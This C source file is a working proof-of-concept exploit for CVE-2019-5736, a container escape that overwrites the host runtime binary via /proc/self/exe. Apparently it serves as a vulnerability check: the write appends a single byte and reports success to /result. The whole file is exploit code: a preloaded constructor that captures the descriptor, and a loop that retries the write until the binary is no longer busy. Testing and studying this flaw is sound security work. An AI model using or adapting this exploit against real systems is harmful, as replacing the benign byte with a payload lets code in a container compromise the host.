/* CVE-2019-5736: overwrite the file that the runtime runs from, reached by /proc/self/exe.

   As a library it is preloaded into that file, run as the interpreter of a script in the container:
   it keeps a descriptor of it and executes the program. That waits until nobody executes the file
   any more (ETXTBSY), tries to write it and says in /result how that ended: 0 is a success. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#ifdef LIBRARY
__attribute__((constructor)) static void run(void) {
    char number[16];
    int fd = open("/proc/self/exe", O_RDONLY);
    snprintf(number, sizeof number, "%d", fd);
    execl("/attack", "attack", number, (char *)0);
    _exit(99);
}
#else
int main(int argc, char **argv) {
    char path[64], text[16];
    int fd, number = 0;
    (void)argc;
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    for (int tries = 0; tries < 5000; tries++) {
        number = 0;
        fd = open(path, O_WRONLY | O_APPEND);
        if (fd < 0 || write(fd, "!", 1) != 1) number = errno;
        if (number != ETXTBSY) break;
        usleep(1000);
    }
    fd = open("/result.new", O_WRONLY | O_CREAT, 0666);
    if (write(fd, text, snprintf(text, sizeof text, "%d", number)) < 0) return 1;
    return rename("/result.new", "/result");
}
#endif
